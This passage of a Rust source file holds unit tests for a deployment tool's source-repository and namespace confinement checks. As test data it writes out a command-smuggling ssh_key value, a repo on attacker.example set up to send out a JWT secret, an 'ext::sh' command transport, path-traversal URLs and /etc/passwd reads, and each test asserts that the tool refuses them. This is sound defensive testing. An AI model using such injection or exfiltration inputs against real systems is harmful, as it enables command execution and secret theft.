        for (key, value) in &self.parameters {
            match value {
                Parameter::One(one) => parameters.push((key.clone(), one.text())),
                Parameter::Many(many) => {
                    parameters.extend(many.iter().map(|v| (key.clone(), v.text())))
                }
            }
        }
        weft_sdk::RenderRequest {
            app: self.name.clone(),
            namespace: Some(self.namespace.clone()),
            release: Some(self.release.clone().unwrap_or_else(|| self.name.clone())),
            parameters,
            values: self.values.clone(),
            cluster: None,
            seed: None,
            revision_time: None,
            lookup: None,
        }
    }
}

#[cfg(test)]
mod confinement_tests {
    use serde_json::json;

    use super::*;

    fn confinement() -> Confinement {
        Confinement {
            org: "shop".into(),
            namespaces: vec!["shop-*".into()],
            application_namespaces: vec!["shop-apps".into()],
            cluster_kinds: vec![],
            source_repos: vec![
                "https://git.example.com/shop/*".into(),
                "oci://registry.example.com/shop/*".into(),
            ],
        }
    }

    #[test]
    fn a_confined_app_takes_chart_dependencies_only_from_its_orgs_source_repos() {
        use weft_source::outbound::SourceRules as _;
        let shop = confinement();
        assert_eq!(shop.admit("oci://registry.example.com/shop/charts"), Ok(()));
        assert_eq!(shop.admit("https://git.example.com/shop/charts"), Ok(()));
        for url in [
            "https://127.0.0.1:8443/charts",
            "oci://registry.example.com/bank/charts",
            "https://git.example.com/shop/../bank/charts",
            "https://git.example.com/shop/%2e%2e/bank",
        ] {
            let refused = shop.admit(url).expect_err(url).to_string();
            assert!(
                refused.contains("org shop") || refused.contains("refused"),
                "{url}: {refused}"
            );
        }
    }

    #[test]
    fn a_confined_app_declares_child_applications_in_its_orgs_namespaces_and_cluster_kinds_it_is_given()
     {
        let child = |namespace: &str| {
            json!({"apiVersion": "weft.dev/v1alpha1", "kind": "Application",
                   "metadata": {"name": "child", "namespace": namespace}})
        };
        assert_eq!(confinement().check(&[child("shop-apps")]), Ok(()));
        let error = confinement().check(&[child("bank-apps")]).unwrap_err();
        assert!(error.to_string().contains("shop-apps"), "{error}");
        let set = json!({"apiVersion": "weft.dev/v1alpha1", "kind": "ApplicationSet",
                         "metadata": {"name": "set", "namespace": "shop-apps"}});
        assert!(confinement().check(&[set]).is_err());
        let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                          "metadata": {"name": "weft"}});
        let namespace =
            json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop-x"}});
        let mut granted = confinement();
        granted.cluster_kinds = vec!["rbac.authorization.k8s.io/*".into(), "Namespace".into()];
        assert_eq!(granted.check(&[role.clone(), namespace.clone()]), Ok(()));
        let error = confinement().check(&[role]).unwrap_err();
        assert!(
            error.to_string().contains(
                "rbac.authorization.k8s.io/ClusterRole is not among its cluster kinds: none"
            ),
            "{error}"
        );
    }

    #[test]
    fn a_confined_app_places_namespaced_objects_in_its_orgs_destinations_only() {
        let inside = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a", "namespace": "shop-web"}});
        assert_eq!(confinement().check(std::slice::from_ref(&inside)), Ok(()));
        let elsewhere = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a", "namespace": "kube-system"}});
        let error = confinement()
            .check(&[inside.clone(), elsewhere])
            .unwrap_err();
        assert!(error.to_string().contains("kube-system"), "{error}");
        let cluster_wide = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
            "metadata": {"name": "take-over"}});
        let error = confinement().check(&[cluster_wide]).unwrap_err();
        assert!(error.to_string().contains("cluster-scoped"), "{error}");
        let application = json!({"apiVersion": "weft.dev/v1alpha1", "kind": "Application",
            "metadata": {"name": "child", "namespace": "shop-web"}});
        let error = confinement().check(&[application]).unwrap_err();
        assert!(error.to_string().contains("Weft's own"), "{error}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(toml_text: &str) -> AppSpec {
        toml::from_str(toml_text).unwrap()
    }

    const MINIMAL: &str = r#"
name = "shop"
type = "yaml"
namespace = "shop"
source = { path = "examples/shop" }
"#;

    fn api_app(source: &str, extra: &str) -> AppSpec {
        spec(&format!(
            "name = \"shop\"\ntype = \"yaml\"\nnamespace = \"shop\"\norg = \"acme\"\nsource = {source}\n{extra}"
        ))
    }

    fn rules() -> ApiAppRules {
        ApiAppRules {
            allow_file_urls: false,
            file_url_roots: vec![],
            clusters: vec!["staging".into(), "production".into()],
            gates: Vec::new(),
            credentials: CredentialSet::new(vec![weft_source::CredentialSpec {
                name: "acme".into(),
                url: "https://git.example/acme/".into(),
                username: Some("ci".into()),
                password_env: Some("ACME_TOKEN".into()),
                password_file: None,
                ssh_key: None,
                orgs: vec!["acme".into()],
            }]),
        }
    }

    fn refused_key(app: &AppSpec, rules: &ApiAppRules) -> String {
        app.validate().unwrap();
        app.check_api_rules(rules).unwrap_err().key
    }

    #[test]
    fn file_urls_under_a_root_are_allowed_and_no_others() {
        let rules = ApiAppRules {
            file_url_roots: vec!["/srv/weft/examples".into()],
            ..ApiAppRules::default()
        };
        assert!(rules.allows_file_url("file:///srv/weft/examples/repo"));
        for refused in [
            "file:///srv/weft/examples/../../etc",
            "file:///srv/weft/examples-other/repo",
            "file:///srv/weft/examples/%2e%2e/x",
            "file:///etc/passwd",
            "file://relative/examples",
            "https://srv/weft/examples/repo",
        ] {
            assert!(!rules.allows_file_url(refused), "{refused}");
        }
        assert!(
            ApiAppRules {
                allow_file_urls: true,
                ..ApiAppRules::default()
            }
            .allows_file_url("file:///anywhere")
        );
    }

    #[test]
    fn an_api_app_names_only_a_cluster_the_server_manages() {
        let rules = rules();
        let source = r#"{ repo = "https://git.example/acme/shop.git" }"#;
        api_app(source, "cluster = \"production\"")
            .check_api_rules(&rules)
            .unwrap();
        api_app(source, "").check_api_rules(&rules).unwrap();
        let elsewhere = api_app(source, "cluster = \"moon\"");
        assert_eq!(refused_key(&elsewhere, &rules), "cluster");
    }

    #[test]
    fn an_api_app_may_not_name_host_resources() {
        let rules = rules();
        // The issue's inputs: a key path that would break out of the ssh command, a password variable sent to an
        // attacker's URL, directories of the server.
        let quote = api_app(
            r#"{ repo = "ssh://git@git.example/acme/shop.git", ssh_key = "/k' ; touch /tmp/pwned ; echo '" }"#,
            "",
        );
        assert_eq!(refused_key(&quote, &rules), "source.ssh_key");
        let exfiltrate = api_app(
            r#"{ repo = "https://attacker.example/x.git", username = "u", password_env = "WEFT_JWT_SECRET" }"#,
            "",
        );
        assert_eq!(refused_key(&exfiltrate, &rules), "source.username");
        let plain_http = api_app(r#"{ repo = "http://attacker.example/x.git" }"#, "");
        assert_eq!(refused_key(&plain_http, &rules), "source.repo");
        for path in ["/etc", "../../..", "/root/.ssh"] {
            let local = api_app(&format!("{{ path = {path:?} }}"), "");
            assert_eq!(refused_key(&local, &rules), "source.repo", "{path}");
        }
        let host_repo = api_app(r#"{ repo = "/srv/git/other-tenant.git" }"#, "");
        assert_eq!(refused_key(&host_repo, &rules), "source.repo");
        let file = api_app(r#"{ repo = "file:///srv/git/shop.git" }"#, "");
        assert_eq!(refused_key(&file, &rules), "source.repo");
        let mut allowing = rules.clone();
        allowing.allow_file_urls = true;
        file.check_api_rules(&allowing).unwrap();
        let transport = api_app(r#"{ repo = "ext::sh -c touch% /tmp/pwned" }"#, "");
        assert_eq!(refused_key(&transport, &rules), "source.repo");
        let command = api_app(
            r#"{ repo = "https://git.example/acme/shop.git" }"#,
            "[build]\nbuilder = \"command\"",
        );
        assert_eq!(refused_key(&command, &rules), "build.builder");
        // A chart app too: the chart branch once returned before the build and credential checks.
        let chart_command = api_app(
            r#"{ repo = "https://charts.example", chart = "web", version = "1.0.0" }"#,
            "[build]\nbuilder = \"command\"",
        );
        assert_eq!(refused_key(&chart_command, &rules), "build.builder");
    }

    #[test]
    fn a_chart_source_names_a_chart_repository_and_nothing_of_git() {
        let app = spec(
            r#"
name = "jobs"
type = "helm"
namespace = "jobs"
source = { repo = "oci://registry.example.com/charts", chart = "worker", version = "^2.0.0" }
"#,
        );
        app.validate().unwrap();
        assert_eq!(
            app.app_source().unwrap(),
            AppSource::Chart {
                repository: "oci://registry.example.com/charts".into(),
                chart: "worker".into(),
                version: "^2.0.0".into(),
                org: None,
            }
        );
        for (source, key) in [
            (r#"{ chart = "worker" }"#, "source.chart"),
            (
                r#"{ repo = "ssh://git@x/y", chart = "worker" }"#,
                "source.repo",
            ),
            (
                r#"{ repo = "https://c.example.com", chart = "worker", path = "sub" }"#,
                "source.chart",
            ),
            (
                r#"{ repo = "https://c.example.com", chart = "../worker" }"#,
                "source.chart",
            ),
            (
                r#"{ repo = "https://c.example.com", version = "1.0.0" }"#,
                "source.version",
            ),
        ] {
            let app = spec(&format!(
                "name = \"x\"\ntype = \"helm\"\nnamespace = \"x\"\nsource = {source}\n"
            ));
            assert_eq!(app.validate().unwrap_err().key, key, "{source}");
        }
    }

    #[test]
    fn an_api_app_names_a_credential_that_covers_its_repository_and_org() {
        let rules = rules();
        let good = api_app(
            r#"{ repo = "https://git.example/acme/shop.git", credential = "acme" }"#,
            "",
        );
        good.validate().unwrap();
        good.check_api_rules(&rules).unwrap();
        assert!(matches!(
            good.app_source().unwrap(),
            AppSource::Git { repository: Repository { credentials: Some(Credentials::Named(name)), .. }, .. }
                if name == "acme"
        ));
        let elsewhere = api_app(
            r#"{ repo = "https://attacker.example/x.git", credential = "acme" }"#,
            "",
        );
        assert_eq!(refused_key(&elsewhere, &rules), "source.credential");
        let mut other_org = good.clone();
        other_org.org = Some("other".into());
        assert_eq!(refused_key(&other_org, &rules), "source.credential");
        let unknown = api_app(
            r#"{ repo = "https://git.example/acme/shop.git", credential = "nope" }"#,
            "",
        );
        assert_eq!(refused_key(&unknown, &rules), "source.credential");
        let both = api_app(
            r#"{ repo = "https://git.example/acme/shop.git", credential = "acme", ssh_key = "/k" }"#,
            "",
        );
        assert_eq!(both.validate().unwrap_err().key, "source.credential");
    }

    #[test]
    fn a_minimal_app_has_safe_defaults() {
        let app = spec(MINIMAL);
        app.validate().unwrap();
        assert!(!app.sync.automated && !app.sync.prune && !app.sync.force);
        assert_eq!(app.sync.fuse.fuse(), PruneFuse::default());
        assert_eq!(app.sync.history_limit, 10);
        assert_eq!(app.source.reference, "HEAD");
        let request = app.render_request();
        assert_eq!(request.release.as_deref(), Some("shop"));
        assert_eq!(request.namespace.as_deref(), Some("shop"));
        assert!(matches!(app.app_source().unwrap(), AppSource::Local { .. }));
    }

    #[test]
    fn parameters_become_request_parameters() {
        let app = spec(&format!(
            "{MINIMAL}\nparameters = {{ recurse = true, set = [\"a=1\", \"b=2\"], \"extVar.n\" = 3 }}\n"
        ));
        let mut parameters = app.render_request().parameters;
        parameters.sort();
        assert_eq!(
            parameters,
            vec![
                ("extVar.n".to_string(), "3".to_string()),
                ("recurse".to_string(), "true".to_string()),
                ("set".to_string(), "a=1".to_string()),
                ("set".to_string(), "b=2".to_string()),
            ]
        );
    }

    #[test]
    fn unknown_keys_and_bad_values_are_named() {
        let error = toml::from_str::<AppSpec>(&format!("{MINIMAL}\nsyncc = {{}}\n")).unwrap_err();
        assert!(error.to_string().contains("syncc"), "{error}");
        let error = toml::from_str::<AppSpec>(&format!("{MINIMAL}\n[sync]\nautomatic = true\n"))
            .unwrap_err();
        assert!(error.to_string().contains("automatic"), "{error}");

        let bad = spec(&format!("{MINIMAL}\n[sync]\nself_heal = true\n"));
        assert_eq!(bad.validate().unwrap_err().key, "sync.self_heal");
        let bad = spec(&format!("{MINIMAL}\n[sync.fuse]\nmax_ratio = 1.5\n"));
        let error = bad.validate().unwrap_err();
        assert_eq!(error.key, "sync.fuse.max_ratio");
        assert!(error.to_string().contains("1.5"), "{error}");
        let mut bad = spec(MINIMAL);
        bad.name = "Shop_1".into();
        assert_eq!(bad.validate().unwrap_err().key, "name");
        let bad = spec(&format!(
            "{MINIMAL}\n[[ignore]]\nkind = \"Deployment\"\njson_pointers = [\"spec/replicas\"]\n"
        ));
        assert_eq!(bad.validate().unwrap_err().key, "ignore[0]");
    }

    #[test]
    fn git_sources_pin_through_the_pipeline_types() {
        let app = spec(
            r#"
name = "shop"
type = "helm"
namespace = "shop"
source = { repo = "https://git.example/shop.git", path = "charts/shop", ref = "v1.2.0", username = "ci", password_env = "WEFT_TEST_UNSET_VARIABLE" }
"#,
        );
        app.validate().unwrap();
        let error = app.app_source().unwrap_err();
        assert!(
            error.to_string().contains("WEFT_TEST_UNSET_VARIABLE"),
            "{error}"
        );
        let mut escaping = app.clone();
        escaping.source.path = "../other".into();
        assert_eq!(escaping.validate().unwrap_err().key, "source.path");
    }

    #[test]
    fn a_build_table_is_checked_and_changes_the_digest() {
        let plain = spec(MINIMAL);
        assert_eq!(plain.build, None);
        let built = spec(&format!(
            "{MINIMAL}\n[build]\nbuilder = \"command\"\nmax_attempts = 2\noverrides = {{ base-image = \"node:20-slim\", \"env.NODE_ENV\" = \"production\" }}\n"
        ));
        built.validate().unwrap();
        let build = built.build.as_ref().unwrap();
        assert_eq!(build.max_attempts, 2);
        assert_eq!(build.overrides["base-image"], "node:20-slim");
        assert_ne!(built.render_digest(), plain.render_digest());
        let bad = spec(&format!("{MINIMAL}\n[build]\nbuilder = \"podman\"\n"));
        let error = bad.validate().unwrap_err();
        assert_eq!(error.key, "build.image");
        let bad = spec(&format!(
            "{MINIMAL}\n[build]\nbuilder = \"command\"\noverrides = {{ jobs = \"0\" }}\n"
        ));
        assert_eq!(bad.validate().unwrap_err().key, "build.overrides.jobs");
        assert!(
            toml::from_str::<AppSpec>(&format!("{MINIMAL}\n[build]\nbuilders = \"command\"\n"))
                .is_err()
        );
    }
}
